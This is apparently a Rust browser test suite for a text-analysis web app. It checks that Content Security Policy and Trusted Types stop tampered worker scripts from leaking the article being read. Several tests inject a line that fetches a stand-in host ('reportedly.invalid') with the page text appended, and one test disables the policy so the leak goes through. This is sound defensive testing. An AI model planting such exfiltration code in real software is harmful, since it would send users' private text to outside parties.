//! "Nothing is uploaded": the browser itself holds it, wherever the text is, in the engine's worker too.

use reportedly_document::Layer;
use reportedly_tests::{Page, State, Visit, at_each_text, visit};

use crate::elements::{inside, page_of, page_with};
use crate::sharing::share;
use crate::texts::{read_ferry, words};

/// A link to a short text.
const LINK: &str = include_str!("../links/1-article.link");

/// The worker of somebody who wants the article.
fn leaking(script: &str) -> String {
    at_each_text(script, "fetch('http://reportedly.invalid/?' + encodeURIComponent(text)).catch(() => {});")
}

async fn no_article_leaves(page: &Page) {
    // What a worker asks for is on its way a moment later.
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    assert_eq!(page.asked_of_others(), Vec::<String>::new());
    let refused = async || page.console().await.iter().any(|line| line.contains("reportedly.invalid")).then_some(());
    page.wait_until("the browser's refusal on the console", refused).await;
}

#[test]
fn a_worker_that_would_send_the_article_away_cannot() {
    Visit::of_the_build().with_changed("engine-worker.js", leaking).run(async |page| {
        read_ferry(page).await;
        no_article_leaves(page).await;
    });
}

#[test]
fn page_and_frame_require_trusted_types() {
    visit(async |page| {
        page.paste_only_html("<p>It may <b>rain</b> in Oslo.</p><script>alert(1)</script>").await;
        page.wait_for(State::Ready).await;
        assert_eq!(words(page, Layer::Hedge).await, ["may"]);
        assert_eq!(page.console_errors().await, Vec::<String>::new());
        let refused = "try { document.createElement('script').text = 'a'; return false; } catch { return true; }";
        assert!(page.script::<bool>(refused, Vec::new()).await);
    });
    let frame = include_str!("../../static/embed/embed.html");
    assert!(frame.contains("require-trusted-types-for 'script'; trusted-types reportedly\""));
}

#[test]
fn in_a_page_without_a_policy_it_could() {
    let without = |page: &str| {
        let (before, rest) = page.split_once("<meta http-equiv=\"Content-Security-Policy\"").expect("it has a policy");
        [before, rest.split_once('>').expect("a tag ends").1].concat()
    };
    let visit = Visit::of_the_build().with_changed("engine-worker.js", leaking).with_changed("index.html", without);
    visit.run(async |page| {
        read_ferry(page).await;
        page.wait_until("the article's way", async || page.asked_of_others().first().cloned()).await;
    });
}

#[test]
fn an_element_s_worker_is_under_the_policy_of_the_page_around_it() {
    page_with(|page| page).with_changed("embed/engine-worker.js", leaking).run(async |page| {
        let marks = async || inside::<u32>(page, "return root?.querySelectorAll('mark').length ?? 0").await;
        page.wait_until("marks", async || (marks().await > 5).then_some(())).await;
        no_article_leaves(page).await;
    });
}

#[test]
fn a_frame_s_worker_is_under_the_policy_of_the_frame() {
    let frame = format!("<iframe src=\"embed/embed.html#{}\" width=600 height=600></iframe>", LINK.trim());
    page_of(&frame, "").with_changed("embed/engine-worker.js", leaking).run(async |page| {
        let text = "return document.querySelector('iframe').contentDocument?.querySelector('reportedly-text')?.text ?? ''";
        let shown = async || page.script::<String>(text, Vec::new()).await;
        page.wait_until("the frame's text", async || (!shown().await.is_empty()).then_some(())).await;
        let marked = "return document.querySelector('iframe').contentDocument.querySelector('reportedly-text').getAnnotations().then(all => all.length)";
        assert!(page.script::<u32>(marked, Vec::new()).await > 3);
        no_article_leaves(page).await;
    });
}

#[test]
fn a_worker_for_links_that_would_send_the_article_away_cannot() {
    const SENDS: &str = "
        if (!globalThis.document) {
            const send = ({ data }) => fetch('http://reportedly.invalid/?' + data.method).catch(() => {});
            addEventListener('message', send);
        }";
    let leaking = |script: &str| format!("{SENDS}\n{script}");
    Visit::of_the_build().with_changed("program-loader.js", leaking).run(async |page| {
        read_ferry(page).await;
        share(page).await;
        no_article_leaves(page).await;
    });
}

#[test]
fn the_worker_itself_asks_for_nothing() {
    Visit::of_the_build().run(async |page| {
        read_ferry(page).await;
        let by_the_page = "return performance.getEntriesByType('resource').map(({ name }) => new URL(name).pathname)";
        let asked: Vec<String> = page.script(by_the_page, Vec::new()).await;
        for file in ["engine-worker.js", "engine_bg.wasm", "engine.words", "news.model"] {
            assert!(asked.iter().any(|path| path.ends_with(file)), "{file} came to the page: {asked:?}");
        }
    });
}

#[test]
fn a_frame_that_gets_thousands_of_senseless_messages_works_on() {
    const SENSELESS: &str = "
        const target = document.querySelector('iframe').contentWindow;
        const odd = [null, undefined, 1e300, NaN, '', 'hello', [], {}, new Map(), { reportedly: {} }, { reportedly: 1e300 },
            { reportedly: 1, height: -5 }, { reportedly: 'hello', __proto__: null }, { reportedly: 1, event: '<script>' }];
        for (let i = 0; i < 5_000; i += 1) target.postMessage(odd[i % odd.length], '*');
        return new Promise((go) => setTimeout(go, 300, 1));";
    let frame = format!("<iframe src=\"embed/embed.html#{}\" width=600 height=600></iframe>", LINK.trim());
    page_of(&frame, "").run(async |page| {
        let marked = "
            const element = document.querySelector('iframe').contentDocument?.querySelector('reportedly-text');
            return element?.getAnnotations?.().then((all) => all.length) ?? 0";
        let marks = async || page.script::<u32>(marked, Vec::new()).await;
        page.wait_until("marks", async || (marks().await > 3).then_some(())).await;
        let before = marks().await;
        assert_eq!(page.script::<u32>(SENSELESS, Vec::new()).await, 1);
        assert_eq!(marks().await, before);
        let errors = page.console_errors().await;
        assert!(errors.iter().all(|line| line.contains("favicon")), "{errors:?}");
    });
}
